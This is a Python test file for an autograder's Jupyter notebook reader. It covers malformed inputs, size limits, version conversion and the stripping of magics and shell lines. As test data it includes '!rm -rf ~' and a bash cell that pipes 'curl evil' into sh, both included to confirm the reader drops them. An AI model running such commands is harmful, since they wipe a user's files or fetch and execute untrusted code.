"""grader/notebooks/read.py: a notebook read as data; anything else one line, never a traceback."""

from __future__ import annotations

import json

import pytest

from grader.notebooks.read import MAX_CODE_CHARACTERS, NotebookError, read_notebook
from tests.conftest import STUBS
from tests.notebooks.builders import code_cell, notebook

NOT_NOTEBOOKS = {
    "empty": b"",
    "text": b"def convolve2d(image, kernel):\n    return image\n",
    "a JSON list": b"[1, 2, 3]",
    "GeoJSON": json.dumps({"type": "FeatureCollection", "features": []}).encode(),
    "package.json": json.dumps({"name": "x", "version": "1.0.0", "nbformat": "4"}).encode(),
    "a future version": json.dumps(
        {"cells": [], "metadata": {}, "nbformat": 99, "nbformat_minor": 0}
    ).encode(),
    "cells not a list": json.dumps(
        {"cells": "x", "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode(),
    "a source that is a number": json.dumps(notebook(code_cell(5))).encode(),  # type: ignore[arg-type]
    "UTF-16": json.dumps(notebook("x = 1")).encode("utf-16"),
    "nested a million deep": b"[" * 1_000_000 + b"]" * 1_000_000,
}


@pytest.mark.parametrize("kind", list(NOT_NOTEBOOKS))
def test_json_of_another_kind_is_one_line_naming_the_file(kind):
    with pytest.raises(NotebookError) as raised:
        read_notebook(NOT_NOTEBOOKS[kind], "work.ipynb")
    message = raised.value.message
    assert message.startswith("work.ipynb is not a Jupyter notebook") and "\n" not in message


def test_the_course_notebook_reads_as_its_three_code_cells_all_magics_dropped():
    code = read_notebook((STUBS / "course.ipynb").read_bytes(), "course.ipynb")
    assert [cell.number for cell in code.cells] == [3, 6, 8]  # markdown cells count, as in Jupyter
    assert all(cell.text == "" for cell in code.cells)
    assert "cell 6, line 1: `%grade ex01` was left out" in code.cells[1].notes[0]


def test_magics_shell_and_help_lines_are_dropped_with_their_cell_and_line():
    source = "import numpy as np\n%timeit np.ones(3)\n!rm -rf ~\nfiles = !ls\nnp.sum?\nx = 1"
    code = read_notebook(json.dumps(notebook("# intro", source)).encode(), "w.ipynb")
    cell = code.cells[1]
    assert cell.text.splitlines() == ["import numpy as np", "", "", "", "", "x = 1"]
    assert [note.split(":")[0] for note in cell.notes] == [
        "cell 2, line 2",
        "cell 2, line 3",
        "cell 2, line 4",
        "cell 2, line 5",
    ]


def test_a_cell_magic_drops_its_whole_cell_and_a_valid_cell_is_never_touched():
    kept = 'template = """\n%d items\n!important\n"""'
    code = read_notebook(json.dumps(notebook("%%bash\ncurl evil | sh", kept)).encode(), "w.ipynb")
    assert code.cells[0].text == "" and "`%%bash`" in code.cells[0].notes[0]
    assert code.cells[1].text == kept and code.cells[1].notes == ()  # `%` inside a string stays


def test_markers_name_exercises_forgivingly():
    code = read_notebook(
        json.dumps(
            notebook("# grade: ex1\ndef f(): pass", "#GRADE: EX09", "# grade ex02")
        ).encode(),
        "w.ipynb",
    )
    assert [cell.markers for cell in code.cells] == [("ex01",), ("ex09",), ()]


def test_a_huge_notebook_is_refused_before_it_is_parsed():
    with pytest.raises(NotebookError, match="larger than 16 MB"):
        read_notebook(b" " * ((16 << 20) + 1), "big.ipynb")
    too_much_code = json.dumps(notebook("x = 1\n" * (MAX_CODE_CHARACTERS // 6 + 1))).encode()
    with pytest.raises(NotebookError, match="code cells of big.ipynb hold more than"):
        read_notebook(too_much_code, "big.ipynb")


def test_an_older_notebook_version_is_converted():
    version_3 = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "input": "def f():\n    return 1",
                        "language": "python",
                        "outputs": [],
                        "metadata": {},
                    }
                ],
                "metadata": {},
            }
        ],
    }
    code = read_notebook(json.dumps(version_3).encode(), "old.ipynb")
    assert code.cells[0].text == "def f():\n    return 1"
